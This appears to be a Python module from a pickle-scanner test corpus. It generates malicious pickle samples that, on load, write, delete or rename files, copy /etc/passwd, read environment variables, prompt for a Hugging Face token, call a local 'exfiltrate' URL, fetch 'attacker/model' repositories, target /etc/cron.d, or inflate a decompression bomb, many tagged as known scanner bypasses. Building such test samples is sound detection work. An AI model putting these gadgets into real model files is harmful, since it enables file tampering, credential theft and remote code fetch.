"""Malicious pickles that need no shell: functions that write, delete, read or fetch files and open connections."""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile

from .assembler import MARKER, POP, VICTIM, Op, build, call, new, pickle, raw, stack_global, value
from .sample import Sample, write_bytes

SG = stack_global
URL = "http://127.0.0.1:9/exfiltrate"


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        archive.addfile(tarfile.TarInfo(MARKER), io.BytesIO(b""))
    return buffer.getvalue()


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo(MARKER), b"")
    return buffer.getvalue()


_WRITE = [
    ("builtins.open", call(SG("builtins", "open"), MARKER, "w"), ""),
    ("io.open", call(SG("io", "open"), MARKER, "w"), ""),
    ("io.FileIO", call(SG("_io", "FileIO"), MARKER, "w"), "GHSA-9m3x-qqw2-h32h"),
    ("codecs.open", call(SG("codecs", "open"), MARKER, "w"), "https://huggingface.co/wulonchia/picklescan-bypass-poc"),
    ("gzip.open", call(SG("gzip", "open"), MARKER, "wb"), "https://huggingface.co/hacnho/pickle-scanner-bypass-file-write-callables"),
    ("bz2.open", call(SG("bz2", "open"), MARKER, "wb"), "https://huggingface.co/hacnho/pickle-scanner-bypass-file-write-callables"),
    ("lzma.open", call(SG("lzma", "open"), MARKER, "wb"), "https://huggingface.co/hacnho/pickle-scanner-bypass-file-write-callables"),
    ("wave.open", call(SG("wave", "open"), MARKER, "wb"), "https://huggingface.co/hacnho/pickle-scanner-bypass-file-write-callables"),
    ("mailbox.mbox", call(SG("mailbox", "mbox"), MARKER, None, True), "https://huggingface.co/hacnho/pickle-scanner-bypass-file-write-callables"),
    ("os.open", call(SG("os", "open"), MARKER, 64), ""),
    ("os.mkdir", call(SG("os", "mkdir"), MARKER), ""),
    ("os.symlink", call(SG("os", "symlink"), "/etc/passwd", MARKER), ""),
    ("os.rename", call(SG("os", "rename"), VICTIM, MARKER), ""),
    ("pathlib.Path.touch", call(SG("pathlib", "Path.touch"), call(SG("pathlib", "Path"), MARKER)), ""),
    ("pathlib.Path.write_text", call(SG("pathlib", "Path.write_text"), call(SG("pathlib", "PosixPath"), MARKER), "x"), ""),
    ("shutil.copyfile", call(SG("shutil", "copyfile"), "/etc/passwd", MARKER), "https://huggingface.co/manja316/modelscan-bypass-shutil-copy"),
    ("shutil.move", call(SG("shutil", "move"), VICTIM, MARKER), ""),
    ("shutil.unpack_archive", call(SG("pathlib", "Path.write_bytes"), call(SG("pathlib", "Path"), "w.tar"), _tar()) + POP + call(SG("shutil", "unpack_archive"), "w.tar"), ""),
    ("distutils.file_util.write_file", call(SG("distutils.file_util", "write_file"), MARKER, ["x"]), "CVE-2025-10156"),
    ("logging.FileHandler", call(SG("logging", "FileHandler"), MARKER), "https://github.com/mmaitre314/picklescan"),
    ("sqlite3.connect", call(SG("sqlite3", "connect"), MARKER), ""),
    ("dbm.dumb.open", call(SG("dbm.dumb", "open"), MARKER, "n"), ""),
    ("shelve.open", call(SG("shelve", "open"), MARKER), ""),
    ("tarfile.extractall", call(SG("tarfile", "TarFile.extractall"), call(SG("tarfile", "TarFile"), None, "r", call(SG("io", "BytesIO"), raw(_tar())))), "https://huggingface.co/hacnho/tarfile-extractall-scanner-bypass-poc"),
    ("zipfile.extractall", call(SG("zipfile", "ZipFile.extractall"), call(SG("zipfile", "ZipFile"), call(SG("io", "BytesIO"), raw(_zip())))), ""),
    ("zipfile.ZipFile", call(SG("zipfile", "ZipFile"), MARKER, "w"), ""),
    ("urllib.request.urlretrieve", call(SG("urllib.request", "urlretrieve"), "file:///etc/passwd", MARKER), ""),
    ("py_compile.compile", call(SG("py_compile", "compile"), "/dev/null", f"{MARKER}.pyc") + POP + call(SG("os", "rename"), f"{MARKER}.pyc", MARKER), ""),
    ("xml.etree.write", call(SG("xml.etree.ElementTree", "ElementTree.write"), call(SG("xml.etree.ElementTree", "ElementTree"), call(SG("xml.etree.ElementTree", "Element"), "w")), MARKER), ""),
    ("http.cookiejar.save", call(SG("http.cookiejar", "LWPCookieJar.save"), call(SG("http.cookiejar", "LWPCookieJar"), MARKER)), ""),
    ("cProfile.Profile.dump_stats", call(SG("cProfile", "Profile.dump_stats"), call(SG("cProfile", "Profile")), MARKER), ""),
    ("numpy.save", call(SG("numpy", "save"), MARKER, [1]) + POP + call(SG("os", "rename"), f"{MARKER}.npy", MARKER), ""),
    ("numpy.savetxt", call(SG("numpy", "savetxt"), MARKER, [1]), ""),
    ("numpy.memmap", call(SG("numpy", "memmap"), MARKER, "uint8", "w+", 0, (4,)), ""),
    ("numpy.memmap_newobj", new(SG("numpy", "memmap"), MARKER, "uint8", "w+", 0, (4,)), ""),
    ("numpy.ndarray.tofile", call(SG("numpy", "ndarray.tofile"), call(SG("numpy", "zeros"), 4), MARKER), ""),
    ("numpy.ndarray.dump", call(SG("numpy", "ndarray.dump"), call(SG("numpy", "zeros"), 4), MARKER), ""),
    ("numpy.lib.format.open_memmap", call(SG("numpy.lib.format", "open_memmap"), MARKER, "w+", None, (4,)), ""),
    ("joblib.dump", call(SG("joblib", "dump"), [1], MARKER), ""),
    ("joblib.disk.mkdirp", call(SG("joblib.disk", "mkdirp"), MARKER), ""),
    ("pandas.to_csv", call(SG("pandas", "DataFrame.to_csv"), call(SG("pandas", "DataFrame")), MARKER), ""),
    ("pandas.to_pickle", call(SG("pandas", "to_pickle"), [1], MARKER), ""),
    ("h5py.File", call(SG("h5py", "File"), MARKER, "w"), ""),
    ("scipy.io.savemat", call(SG("scipy.io", "savemat"), MARKER, {"a": [1]}, False), ""),
    ("sklearn.datasets.dump", call(SG("sklearn.datasets", "dump_svmlight_file"), [[1.0]], [1], MARKER), ""),
    ("safetensors.save_file", call(SG("safetensors.numpy", "save_file"), {}, MARKER), ""),
    ("sklearn.shutil.copyfile", call(SG("sklearn.datasets._base", "shutil.copyfile"), "/etc/passwd", MARKER), ""),
]  # fmt: skip

_DELETE = [
    ("os.remove", call(SG("os", "remove"), VICTIM), ""),
    ("os.unlink", call(SG("posix", "unlink"), VICTIM), ""),
    ("pathlib.Path.unlink", call(SG("pathlib", "Path.unlink"), call(SG("pathlib", "Path"), VICTIM)), ""),
    ("os.replace", call(SG("os", "replace"), VICTIM, "violet_moved"), ""),
    ("shutil.rmtree", call(SG("os", "mkdir"), "d") + POP + call(SG("os", "rename"), VICTIM, "d/v") + POP + call(SG("shutil", "rmtree"), "d"), ""),
    ("joblib.disk.delete_folder", call(SG("os", "mkdir"), "d") + POP + call(SG("os", "rename"), VICTIM, "d/v") + POP + call(SG("joblib.disk", "delete_folder"), "d"), ""),
    ("pathlib.PosixPath.rename", call(SG("pathlib", "PosixPath.rename"), call(SG("pathlib", "PosixPath"), VICTIM), "violet_gone"), ""),
]  # fmt: skip

_NETWORK = [
    ("ssl.get_server_certificate", call(SG("ssl", "get_server_certificate"), ("127.0.0.1", 9)), "https://github.com/mmaitre314/picklescan"),
    ("linecache.getline", call(SG("linecache", "getline"), "/etc/passwd", 1), "https://github.com/mmaitre314/picklescan"),
    ("urllib.request.urlopen", call(SG("urllib.request", "urlopen"), URL), ""),
    ("requests.get", call(SG("requests.api", "get"), URL), ""),
    ("http.client.HTTPSConnection", call(SG("http.client", "HTTPSConnection"), "127.0.0.1", 9), "GHSA-hgrh-qx5j-jfwx"),
    ("aiohttp.ClientSession", call(SG("aiohttp", "ClientSession")), "GHSA-hgrh-qx5j-jfwx"),
    ("socket.create_connection", call(SG("socket", "create_connection"), ("127.0.0.1", 9)), ""),
    ("socketserver.TCPServer", call(SG("socketserver", "TCPServer"), ("127.0.0.1", 0), SG("socketserver", "BaseRequestHandler")), "https://github.com/trailofbits/fickling"),
    ("smtplib.SMTP", call(SG("smtplib", "SMTP"), "127.0.0.1", 9), "https://github.com/trailofbits/fickling"),
    ("ftplib.FTP", call(SG("ftplib", "FTP"), "127.0.0.1"), "https://github.com/trailofbits/fickling"),
    ("xmlrpc.client.ServerProxy", call(SG("xmlrpc.client", "ServerProxy.__call__"), call(SG("xmlrpc.client", "ServerProxy"), URL), "close"), "https://github.com/trailofbits/fickling"),
    ("webbrowser.open", call(SG("webbrowser", "open"), URL), "GHSA-hgrh-qx5j-jfwx"),
    ("pandas.read_csv", call(SG("pandas", "read_csv"), URL), ""),
    ("pandas.read_pickle", call(SG("pandas", "read_pickle"), URL), ""),
    ("getpass.getpass", call(SG("getpass", "getpass"), "Hugging Face token: "), ""),
    ("os.environ", call(SG("builtins", "dict"), SG("os", "environ")), ""),
    ("os.kill", call(SG("os", "kill"), 0, 0), ""),
    ("signal.alarm", call(SG("signal", "alarm"), 3600), ""),
    ("sys.exit", call(SG("sys", "exit"), 0), ""),
    ("resource.setrlimit", call(SG("resource", "setrlimit"), 7, (3, 3)), ""),
    ("gc.get_objects", call(SG("gc", "get_objects")), ""),
    ("inspect.currentframe", call(SG("inspect", "currentframe")), ""),
    ("torch.hub.load", call(SG("torch.hub", "load"), "attacker/repository", "model"), ""),
    ("huggingface_hub.snapshot_download", call(SG("huggingface_hub", "snapshot_download"), "attacker/model"), ""),
    ("transformers.from_pretrained", call(SG("transformers", "AutoModel.from_pretrained"), "attacker/model"), ""),
]  # fmt: skip

_NEEDS = {key: (key,) for key in ("numpy", "joblib", "pandas", "h5py", "scipy", "sklearn", "safetensors", "distutils")}


def _sample(function: str, body: Op, source: str, fires: bool) -> Sample:
    name = f"effect_{function.replace('.', '_')}.pkl"
    content = pickle(body)
    needs = _NEEDS.get(function.partition(".")[0], ()) if fires else ()
    return Sample(name, f"effect/{function}", True, fires, write_bytes(name, lambda: content), "pickle", needs, source)


def _large_bytes() -> bytes:
    """A compressed copy of zeros that a loader would inflate: used by the decompression gadget."""
    return gzip.compress(bytes(10_000_000))


_BOMB = pickle(call(SG("gzip", "decompress"), value(_large_bytes())))

SAMPLES = (
    *(_sample(*row, True) for table in (_WRITE, _DELETE) for row in table),
    *(_sample(*row, False) for row in _NETWORK),
    Sample("effect_gzip_decompress.pkl", "effect/gzip.decompress", True, False,
           write_bytes("effect_gzip_decompress.pkl", lambda: _BOMB), "pickle"),
    Sample("effect_handler_state.pkl", "effect/logging-handler-state", True, False,
           write_bytes("effect_handler_state.pkl",
                       lambda: pickle(build(new(SG("logging", "FileHandler")), {"baseFilename": "/etc/cron.d/x"}))),
           "pickle"),
)  # fmt: skip
